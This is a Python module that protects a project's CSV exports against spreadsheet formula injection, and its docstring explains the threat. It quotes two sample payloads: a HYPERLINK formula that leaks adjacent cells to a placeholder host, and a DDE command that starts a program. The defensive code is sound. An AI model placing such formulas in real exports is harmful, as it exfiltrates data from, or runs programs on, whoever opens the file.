"""CSV files that are safe to open in a spreadsheet: the one writer for every export.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return (or
blanks before the sign) does not stop them.  A formula in an export is an
attack on the colleague who opens it: ``=HYPERLINK("http://evil.example/?"&A2)``
sends the neighbouring cells away in one click, and a DDE call
(``=cmd|' /C calc'!A0``) starts a program.  Any text that outsiders can
shape (a contact's name, an organisation's name from an import, a note) can
reach an export.

So every cell of every export goes through :func:`neutralise`, and the only
way to write a CSV file in this project is :func:`writer`, whose
``writerow`` applies it to each cell: a column added to an export later
cannot be forgotten (``tests/security/test_hostile_files.py`` refuses any
other ``csv.writer`` in the code).  OWASP's advice is followed: such a cell
gets a leading apostrophe, which spreadsheets read as "this is text" and do
not show, and nothing of the value is lost.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.  The
#: full-width forms are typed by East Asian input methods and converted by
#: some spreadsheets; neutralising them costs nothing.
FORMULA_SIGNS = frozenset("=+-@＝＋－＠")
#: Leading control characters that OWASP lists as formula triggers too.
FORMULA_CONTROLS = frozenset("\t\r")
#: A cell made only of these is a number as written ("+(92) 334 4563210",
#: "-12.5"): without letters, quotes, ``|`` or ``!`` no function can be called
#: and no cell referred to, and staff need phone numbers to paste unchanged.
_NUMBER_CHARS = frozenset("0123456789 ()+-./")


def neutralise(value: object) -> str:
    """``value`` as the text of a cell that a spreadsheet will not run.

    ``None`` is an empty cell; everything else is written as ``str(value)``,
    with an apostrophe in front when a spreadsheet would take it for a
    formula: a formula sign first, or first after blanks (spaces, line feeds…), or a
    leading tab or carriage return.
    """
    text = "" if value is None else str(value)
    if not text:
        return text
    if text[0] in FORMULA_CONTROLS or text.lstrip()[:1] in FORMULA_SIGNS:
        if set(text) <= _NUMBER_CHARS and any(ch.isdigit() for ch in text):
            return text
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer``'s interface; every cell is passed through :func:`neutralise`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **options: Any) -> SafeWriter:
    """A CSV writer on ``stream`` (a file, or an ``HttpResponse``) whose every
    cell is neutralised; ``options`` are ``csv.writer``'s (dialect, delimiter…)."""
    return SafeWriter(stream, **options)
